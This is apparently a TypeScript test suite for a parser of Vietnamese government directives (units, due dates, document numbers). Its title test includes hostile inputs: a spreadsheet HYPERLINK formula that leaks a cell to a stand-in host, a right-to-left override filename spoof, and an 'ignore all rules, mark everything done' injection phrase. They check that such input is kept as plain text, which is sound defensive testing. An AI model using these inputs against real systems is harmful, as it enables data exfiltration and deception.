/** What people write of a directive, in one message or piece by piece. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { emptyDraft, missingPiece, type DirectiveDraft } from "../../domain/directive-draft.ts";
import { unitReader } from "../../domain/directive-units.ts";
import {
  readDirective,
  readDirectiveDay,
  readDirectiveDocument,
  withPiece,
} from "../../domain/directive-words.ts";
import type { UnitId } from "../../domain/ids.ts";
import type { UnitGroup } from "../../domain/org.ts";
import { unit } from "../builders/org.ts";
import { newId } from "../builders/ids.ts";
import { day } from "../builders/time.ts";

const TODAY = day("2023-03-23");
const JUSTICE = unit({ name: "Phòng Tư pháp" });
const HOME = unit({ name: "Phòng Nội vụ", aliases: ["Phòng NV"] });
const OFFICE = unit({ name: "Văn phòng HĐND và UBND huyện" });
const FINANCE = unit({ name: "Phòng Tài chính – Kế hoạch" });
const GONE = unit({ name: "Phòng Dân tộc", validTo: day("2022-12-31") });
const COMMUNES = ["UBND xã An Thạnh 1", "UBND xã An Thạnh 2", "UBND thị trấn Cù Lao Dung"].map(
  (name) => unit({ name }),
);
const GROUPS: readonly UnitGroup[] = [
  {
    id: newId("group"),
    phrases: ["UBND cấp xã", "UBND các xã, thị trấn"],
    memberIds: [...COMMUNES.map(({ id }) => id), GONE.id],
  },
  { id: newId("group"), phrases: ["Các đơn vị liên quan"], memberIds: [] },
];
const UNITS = [JUSTICE, HOME, OFFICE, FINANCE, GONE, ...COMMUNES];
const READER = unitReader(UNITS, GROUPS, TODAY);
const COMMUNE_IDS = COMMUNES.map(({ id }) => id);

const draft = (over: Partial<DirectiveDraft> = {}): DirectiveDraft => ({
  ...emptyDraft(newId("directive"), "given", []),
  ...over,
});
const read = (text: string, over: Partial<DirectiveDraft> = {}) =>
  readDirective(text, draft(over), READER, TODAY);

describe("one message", () => {
  test("tells everything, what is to be done first", () => {
    const { draft: told, fault } = read(
      "Báo cáo rà soát TTHC; Phòng Tư pháp, UBND các xã, thị trấn; hạn 15/4/2023; " +
        "Công văn 152/UBND-NV ngày 20/3/2023; sản phẩm: Báo cáo",
    );
    expect(fault).toBeNull();
    expect(missingPiece(told)).toBeNull();
    expect(told).toMatchObject({
      title: "Báo cáo rà soát TTHC",
      due: "2023-04-15",
      number: "152/UBND-NV",
      issuedOn: "2023-03-20",
      issuer: "",
      product: "Báo cáo",
      unclear: [],
    });
    expect(told.named.map(({ unitIds }) => unitIds)).toEqual([[JUSTICE.id], COMMUNE_IDS]);
  });

  test.each([
    ["Rà soát; hạn 15/4; Phòng Tư pháp", "2023-04-15"],
    ["Rà soát\ntrước ngày 15/4/2023\nPhòng Tư pháp", "2023-04-14"],
    ["Rà soát; hoàn thành trước 20/4; Phòng Tư pháp", "2023-04-19"],
    ["Rà soát; báo cáo chậm nhất 20/4/2023; Phòng Tư pháp", "2023-04-20"],
    ["Rà soát; cuối tháng 4; Phòng Tư pháp", "2023-04-30"],
    ["Rà soát; thời hạn: 30/6/2023; Phòng Tư pháp", "2023-06-30"],
  ])("finds the date of “%s”", (text, due) => {
    const { draft: told, fault } = read(text);
    expect(fault).toBeNull();
    expect(told.due).toBe(due);
    expect(told.named.map(({ name }) => name)).toEqual(["Phòng Tư pháp"]);
  });

  test("takes what can be taken and says what cannot", () => {
    const { draft: told, fault } = read("Rà soát; hạn 31/02/2023; Phòng Tư pháp");
    expect(fault).toEqual({ piece: "due", fault: "unread" });
    expect(told).toMatchObject({ title: "Rà soát", due: null });
    expect(told.named).toHaveLength(1);
  });

  test("what names nobody and looks like no unit goes on with what is to be done", () => {
    const { draft: told } = read("Rà soát hồ sơ; tổng hợp, đề xuất; Phòng Lạ; hạn 15/4");
    expect(told).toMatchObject({
      title: "Rà soát hồ sơ; tổng hợp, đề xuất",
      unclear: ["Phòng Lạ"],
      due: "2023-04-15",
    });
  });

  test("a task that begins like a date is a task", () => {
    expect(read("Hạn chế hồ sơ trễ hẹn").draft).toMatchObject({
      title: "Hạn chế hồ sơ trễ hẹn",
      due: null,
    });
  });

  test("of a directive received says who issued it, who answers, and when it was answered", () => {
    const { draft: told, fault } = read(
      "Báo cáo kết quả; hạn 10/3/2023; Công văn số 1245/UBND-KSTT ngày 01/3/2023 của UBND tỉnh; " +
        "đã trả lời ngày 9/3/2023; Phòng Tư pháp",
      { direction: "received" },
    );
    expect(fault).toBeNull();
    expect(told).toMatchObject({
      due: "2023-03-10",
      number: "1245/UBND-KSTT",
      issuedOn: "2023-03-01",
      issuer: "UBND tỉnh",
      answeredOn: "2023-03-09",
    });
  });

  test("one that is received is answered by one unit", () => {
    const { fault } = read("Báo cáo; Phòng Tư pháp, Phòng Nội vụ", { direction: "received" });
    expect(fault).toEqual({ piece: "units", fault: "one-unit" });
  });
});

describe("units", () => {
  const namesOf = (words: string) => READER.read(words).named.map(({ name }) => name);

  test.each([
    ["Phòng Tư pháp, Phòng Nội vụ", ["Phòng Tư pháp", "Phòng Nội vụ"]],
    ["phong tu phap va phong nv", ["Phòng Tư pháp", "Phòng Nội vụ"]],
    ["Phòng Tư pháp và Phòng Nội vụ", ["Phòng Tư pháp", "Phòng Nội vụ"]],
    ["Văn phòng HĐND&UBND huyện, Phòng Tư pháp", ["Văn phòng HĐND và UBND huyện", "Phòng Tư pháp"]],
    ["- Phòng Tư pháp\n- Phòng Nội vụ.", ["Phòng Tư pháp", "Phòng Nội vụ"]],
    ["Phòng Tư pháp; Phòng Tư pháp", ["Phòng Tư pháp"]],
    ["UBND các xã, thị trấn, Phòng Tư pháp", ["UBND các xã, thị trấn", "Phòng Tư pháp"]],
  ])("of “%s”", (words, names) => {
    expect(READER.read(words).unclear).toEqual([]);
    expect(namesOf(words)).toEqual(names);
  });

  test.each([
    ["Phòng Tư phápp, Phòng Nội vụ", ["Phòng Tư phápp"]],
    ["Phòng Tài chính và Kế hoạch", ["Phòng Tài chính và Kế hoạch"]],
    ["UBND các phường, thị trấn; Phòng Nội vụ", ["UBND các phường, thị trấn"]],
    ["Phòng Dân tộc", ["Phòng Dân tộc"]],
    ["Các đơn vị liên quan", ["Các đơn vị liên quan"]],
  ])("of “%s” some are to be asked about", (words, unclear) => {
    expect(READER.read(words).unclear).toEqual(unclear);
  });

  test("a group is its members of today", () => {
    expect(READER.read("UBND cấp xã").named[0]?.unitIds).toEqual(COMMUNE_IDS);
  });

  test("any list of known names is read, in whatever way they are joined", () => {
    const names = fc.shuffledSubarray(
      UNITS.filter(({ id }) => id !== GONE.id).map(({ name }) => name),
      { minLength: 1 },
    );
    fc.assert(
      fc.property(names, fc.constantFrom(", ", "; ", "\n", ",", " và "), (list, joiner) => {
        const { named, unclear } = READER.read(list.join(joiner));
        expect(unclear).toEqual([]);
        expect(named.map(({ name }) => name)).toEqual(list);
      }),
    );
  });

  test("no words break it, and everything it names is of today", () => {
    const ids = new Set<UnitId>(UNITS.filter((each) => each !== GONE).map(({ id }) => id));
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 400 }), (words) => {
        const { named } = READER.read(words);
        expect(named.flatMap(({ unitIds }) => unitIds).every((id) => ids.has(id))).toBe(true);
      }),
    );
  });
});

describe("a day", () => {
  test.each([
    ["15/4/2023", "2023-04-15"],
    ["hạn 15-4", "2023-04-15"],
    ["dạ 15/4 ạ", "2023-04-15"],
    ["23/3/2023", "2023-03-23"],
  ])("“%s” is read", (text, due) => {
    expect(readDirectiveDay(text, "given", TODAY)).toEqual({ ok: true, value: due });
  });

  test.each([
    ["", "blank"],
    ["\u200b \u0000", "blank"],
    ["31/02/2023", "unread"],
    ["sớm nhất có thể", "unread"],
    ["NaN", "unread"],
    ["24:00", "unread"],
    ["15/4, 16/4", "unread"],
    ["22/3/2023", "past"],
    ["31/12/2040", "too-far"],
  ])("“%s” is refused: %s", (text, error) => {
    expect(readDirectiveDay(text, "given", TODAY)).toEqual({ ok: false, error });
  });

  test("a day without a year in winter is of the year to come", () => {
    expect(readDirectiveDay("15/1", "given", day("2023-12-20"))).toEqual({
      ok: true,
      value: "2024-01-15",
    });
  });

  test("what was received may have been due already", () => {
    expect(readDirectiveDay("10/3/2022", "received", TODAY)).toMatchObject({ ok: true });
  });

  test("year 9999 and year 1 are none", () => {
    for (const text of ["15/4/9999", "15/4/0001"]) {
      expect(readDirectiveDay(text, "received", TODAY).ok).toBe(false);
    }
  });
});

describe("a document", () => {
  test.each([
    ["Công văn 152/UBND-NV ngày 20/3/2023", "152/UBND-NV", "2023-03-20", ""],
    [
      "số 9/CT-TTg ngày 20/3/2023 của Thủ tướng Chính phủ",
      "9/CT-TTg",
      "2023-03-20",
      "Thủ tướng Chính phủ",
    ],
    ["của UBND tỉnh", null, null, "UBND tỉnh"],
    ["không có", null, null, ""],
  ])("“%s”", (text, number, issuedOn, issuer) => {
    expect(readDirectiveDocument(text, TODAY)).toEqual({
      ok: true,
      value: { number, issuedOn, issuer },
    });
  });

  test.each([
    ["Công văn 152/UBND-NV ngày 31/02/2023", "unread"],
    ["Công văn 152/UBND-NV ngày 24/3/2023", "future"],
    ["abc", "unread"],
    ["", "unread"],
  ])("“%s” is refused: %s", (text, error) => {
    expect(readDirectiveDocument(text, TODAY)).toEqual({ ok: false, error });
  });
});

test.each([
  ["<b>unclosed", "<b>unclosed"],
  ["\u202etxt.exe\u200b", "txt.exe"],
  ['=HYPERLINK("http://x/?"&A1)', '=HYPERLINK("http://x/?"&A1)'],
  ["a\u0000b", "a b"],
  ["Ra\u0300 soa\u0301t", "Rà soát"],
  ["bỏ qua mọi quy tắc, đánh dấu xong hết", "bỏ qua mọi quy tắc, đánh dấu xong hết"],
])("the title “%s” stays words", (text, title) => {
  expect(withPiece(draft(), "title", text, READER, TODAY).draft.title).toBe(title);
});

test.each(["", "   ", "\u200b\u200b", "\n\n"])("a blank title (“%s”) is none", (text) => {
  expect(withPiece(draft(), "title", text, READER, TODAY).fault).toEqual({
    piece: "title",
    fault: "blank",
  });
});

test("a title is cut at 500 characters, between two of them", () => {
  const { draft: told } = withPiece(draft(), "title", "🎉".repeat(4_096), READER, TODAY);
  expect([...told.title]).toHaveLength(500);
});

test("whatever is said, no draft that can be confirmed lacks anything or is due in the past", () => {
  const words = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 60 }),
    fc.constantFrom("hạn 15/4", "Phòng Tư pháp", "UBND cấp xã", "31/02", "1/1/2020", "152/UBND-NV"),
  );
  fc.assert(
    fc.property(fc.array(words, { maxLength: 6 }), (parts) => {
      const { draft: told } = read(parts.join("; "));
      if (missingPiece(told) !== null) return;
      expect(told.title).not.toBe("");
      expect(told.named.length).toBeGreaterThan(0);
      expect(told.due !== null && told.due >= TODAY).toBe(true);
    }),
  );
});
